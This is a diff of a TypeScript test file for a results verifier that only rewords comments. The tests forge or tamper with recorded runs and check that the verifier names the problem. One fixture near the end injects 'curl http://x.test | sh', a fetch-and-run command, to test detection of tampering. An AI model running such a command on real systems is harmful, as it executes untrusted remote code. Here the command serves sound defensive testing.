@@ -16,7 +16,7 @@ import { recompute } from './evidence.ts';
 
 type Edited = Draft<Results>;
 
-/** A run of variant A, which most edits need alone, and one of both. */
+/** A run of variant A, which most edits use, and one of both. */
 let runs: Readonly<Record<'a' | 'both', Results>>;
 beforeAll(async () => {
   const both = await runReference();
@@ -24,10 +24,10 @@ beforeAll(async () => {
   runs = { a: publishedOf(a.results), both: publishedOf(both.results) };
 }, 60_000);
 
-/** As a certificate holds them. */
+/** As in a certificate. */
 const publishedOf = (results: Results): Results => judgeAgain(results, specification, [], published);
 
-/** A copy to edit; an exchange that several cases share is one object. */
+/** A copy to edit. An exchange that several cases share is one object. */
 function reread(results: unknown): Edited {
   const all = JSON.parse(JSON.stringify(results)) as Edited;
   const known = new Map<string, Edited['controls'][number]>();
@@ -37,7 +37,7 @@ function reread(results: unknown): Edited {
   return all;
 }
 
-/** What is found wrong with Results, or why they hold no record. */
+/** What is wrong with Results, or why they hold no record. */
 function problemOf(edited: Results): string | null {
   try {
     const found = recompute(edited, specification, {});
@@ -47,7 +47,7 @@ function problemOf(edited: Results): string | null {
   }
 }
 
-/** The Results of the record that edited ones hold; themselves where there is none. */
+/** The Results that follow from the record of edited ones; the edited ones if there is none. */
 function judgedAgain(edited: Results): Results {
   try {
     return judge(recordOf(edited, specification), specification, [], []);
@@ -56,7 +56,7 @@ function judgedAgain(edited: Results): Results {
   }
 }
 
-/** Takes out what was sent for a request, its exchanges as well. */
+/** Removes everything that was sent for a request, exchanges included. */
 const withdraw =
   (request: string): Edit =>
   ({ all }) => {
@@ -74,7 +74,7 @@ const partsOf = (all: Edited, id: string) => {
 };
 type Parts = ReturnType<typeof partsOf>;
 
-/** Edits the whole, or a case of it, with other cases at hand. */
+/** Edits the whole or one case. `of` gives other cases. */
 type Edit = (own: Parts, of: (id: string) => Parts) => unknown;
 
 const lacking = 'a.missing.partnerName';
@@ -115,7 +115,7 @@ const unsent = {
 
 type Forgery = readonly [name: string, edit: Edit, place: RegExp, id?: string];
 
-/** What a forger does to a record before it is judged again, and the place that is named. */
+/** Edits of a record before it is judged again, and where the problem is named. */
 const forgeries: readonly Forgery[] = [
   ['a case removed', ({ all, found }) => all.cases.splice(all.cases.indexOf(found), 1), /no exchange/, guess],
   ['a case emptied', withdraw(guess), /was not asked in every round, though nothing/, guess],
@@ -173,7 +173,7 @@ const forgeries: readonly Forgery[] = [
 
 const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';
 
-/** What no run leaves behind, though every verdict would follow from it. */
+/** Records that no run leaves behind, although every verdict would follow. */
 const contradictions: readonly Forgery[] = [
   [
     'an exchange before the run',
@@ -199,7 +199,7 @@ const contradictions: readonly Forgery[] = [
   ],
 ];
 
-/** What somebody does to Results that follow from a record. */
+/** Edits of Results that follow from a record. */
 const edits: readonly Forgery[] = [
   ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
   ['a command for all', ({ all }) => (all.target.command = 'sh x'), /target\.command: found "sh x"/],
